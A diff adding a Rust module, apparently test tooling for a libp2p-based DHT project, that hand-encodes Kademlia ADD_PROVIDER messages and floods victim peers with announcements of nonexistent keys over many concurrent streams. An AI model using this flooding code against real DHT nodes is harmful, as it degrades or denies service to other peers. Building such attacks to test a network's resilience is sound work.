@@ -1,0 +1,47 @@
+//! A peer that speaks the DHT's protocol by hand, as fast as it can.
+
+use futures::{AsyncWriteExt, StreamExt, stream};
+use libp2p::PeerId;
+use plexus_domain::Digest;
+
+use crate::hub::{Hub, KAD};
+
+/// Connections made at the same time.
+const AT_ONCE: usize = 16;
+/// Messages in one write.
+const BATCH: usize = 100;
+
+/// Announces `each` keys that do not exist to each of `victims`, from each of `attackers`.
+pub async fn junk(attackers: &[Hub], victims: &[Hub], each: usize) {
+    let pairs = attackers.iter().flat_map(|attacker| victims.iter().map(move |victim| (attacker, victim)));
+    let floods = pairs.map(|(attacker, victim)| flood(attacker, victim, each));
+    stream::iter(floods).buffer_unordered(AT_ONCE).collect::<()>().await;
+}
+
+async fn flood(attacker: &Hub, victim: &Hub, each: usize) {
+    let mut streams = attacker.streams.clone();
+    let mut stream = streams.open_stream(victim.peer, KAD).await.unwrap();
+    for batch in 0..each.div_ceil(BATCH) {
+        let numbers = batch * BATCH..each.min((batch + 1) * BATCH);
+        let bytes: Vec<u8> =
+            numbers.flat_map(|n| announcement(attacker.peer, &format!("{victim:p} {n}"))).collect();
+        // A victim may hang up.
+        if stream.write_all(&bytes).await.is_err() {
+            return;
+        }
+    }
+    _ = stream.close().await;
+}
+
+/// ADD_PROVIDER (libp2p specification "kad-dht", "RPC messages"), with its length before it.
+fn announcement(provider: PeerId, what: &str) -> Vec<u8> {
+    let key = [&[0x12, 0x20][..], Digest::of(what).as_bytes()].concat();
+    let peer = [field(1, &provider.to_bytes()), field(2, &[4, 127, 0, 0, 1, 6, 0, 9])].concat();
+    let message = [vec![0x08, 0x02], field(2, &key), field(9, &peer)].concat();
+    [vec![u8::try_from(message.len()).unwrap()], message].concat()
+}
+
+/// A protobuf field of bytes, fewer than 128.
+fn field(number: u8, bytes: &[u8]) -> Vec<u8> {
+    [&[number << 3 | 2, u8::try_from(bytes.len()).unwrap()][..], bytes].concat()
+}
